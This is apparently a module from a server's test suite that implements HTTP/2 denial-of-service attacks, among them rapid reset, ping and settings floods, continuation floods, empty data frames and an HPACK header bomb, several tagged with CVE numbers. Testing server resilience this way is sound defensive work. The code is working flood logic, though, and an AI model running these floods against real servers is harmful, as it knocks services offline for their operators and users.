"""Attacks by many frames that cost their sender nothing."""

import asyncio
from collections.abc import Iterable, Iterator
from itertools import islice

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from tests.attacks.hostile.attack import Effort, Got
from tests.attacks.hostile.calls import CHECK, CLAIM
from tests.attacks.hostile.wire import Wire, call_headers, encoded, request

_AT_ONCE = 100
_CONNECTIONS = 8
_CANCEL = 8


async def rapid_reset(address: str, effort: Effort) -> Got:
    """Calls that are taken back as soon as they are made (CVE-2023-44487), on many connections."""
    block = call_headers(CHECK)
    calls = [
        request(stream, block) + RstStreamFrame(stream, error_code=_CANCEL).serialize()
        for stream in range(1, 2 * effort.many, 2)
    ]
    wires = [await Wire.open(address) for _ in range(_CONNECTIONS)]
    return sum(await asyncio.gather(*(_flooded(wire, calls) for wire in wires)), Got())


async def ping_flood(address: str, effort: Effort) -> Got:
    """Pings without pause (CVE-2019-9512)."""
    wire = await Wire.open(address)
    return await _flooded(wire, [PingFrame(0, b"are you?").serialize()] * effort.many, answers=1)


async def settings_flood(address: str, effort: Effort) -> Got:
    """Settings without pause, each of which has to be acknowledged (CVE-2019-9515)."""
    return await _flooded(await Wire.open(address), _settings(effort.many))


async def settings_unread(address: str, effort: Effort) -> Got:
    """The same, where no acknowledgement is ever read."""
    return await _flooded(await Wire.open(address, deaf=True), _settings(effort.many))


async def continuation_flood(address: str, effort: Effort) -> Got:
    """Headers that go on and on (CVE-2024-27316)."""
    more = ContinuationFrame(1, encoded([("x", "a" * 10_000)])).serialize()
    return await _headers_without_end(address, [more] * effort.many, answers=1)


async def empty_continuations(address: str, effort: Effort) -> Got:
    """The same, with nothing in them, so that no bound of bytes is reached."""
    return await _headers_without_end(address, [ContinuationFrame(1).serialize()] * effort.many)


async def header_bomb(address: str, effort: Effort) -> Got:
    """A byte a header: each names again a long one that was sent once."""
    wire = await Wire.open(address)
    await wire.begun()
    encoder = Encoder()
    block = encoder.encode([*call_headers(CHECK), ("x", "a" * 4000)])
    block += encoder.encode([("x", "a" * 4000)]) * effort.many
    await wire.send(*_in_frames(block), DataFrame(1, CLAIM, flags=["END_STREAM"]))
    await wire.until(1)
    return await wire.close()


async def empty_data(address: str, effort: Effort) -> Got:
    """A request that comes in pieces of no bytes (CVE-2019-9518)."""
    wire = await Wire.open(address)
    await wire.send(request(1, call_headers(CHECK)))
    return await _flooded(wire, [DataFrame(1).serialize()] * effort.many)


async def _headers_without_end(address: str, more: list[bytes], answers: int = 0) -> Got:
    wire = await Wire.open(address)
    await wire.begun()
    # Any other frame amid headers would end the connection.
    wire.answers_pings = False
    await wire.send(HeadersFrame(1, encoded(call_headers(CHECK))))
    return await _flooded(wire, more, answers)


async def _flooded(wire: Wire, said: Iterable[bytes], answers: int = 0) -> Got:
    """Says all of it, or what the server bears, and gives what it got: so many answers at least."""
    frames = iter(said)
    while some := b"".join(islice(frames, _AT_ONCE)):
        if not await wire.send(some):
            break
    await wire.until(answers)
    return await wire.close()


def _settings(many: int) -> Iterator[bytes]:
    changed = [
        SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: size}).serialize()
        for size in (65_535, 65_536)
    ]
    return (changed[number % 2] for number in range(many))


def _in_frames(block: bytes) -> Iterator[Frame]:
    first, *rest = (block[at : at + 16_000] for at in range(0, len(block), 16_000))
    yield HeadersFrame(1, first)
    for each in rest:
        yield ContinuationFrame(1, each)
    yield ContinuationFrame(1, flags=["END_HEADERS"])
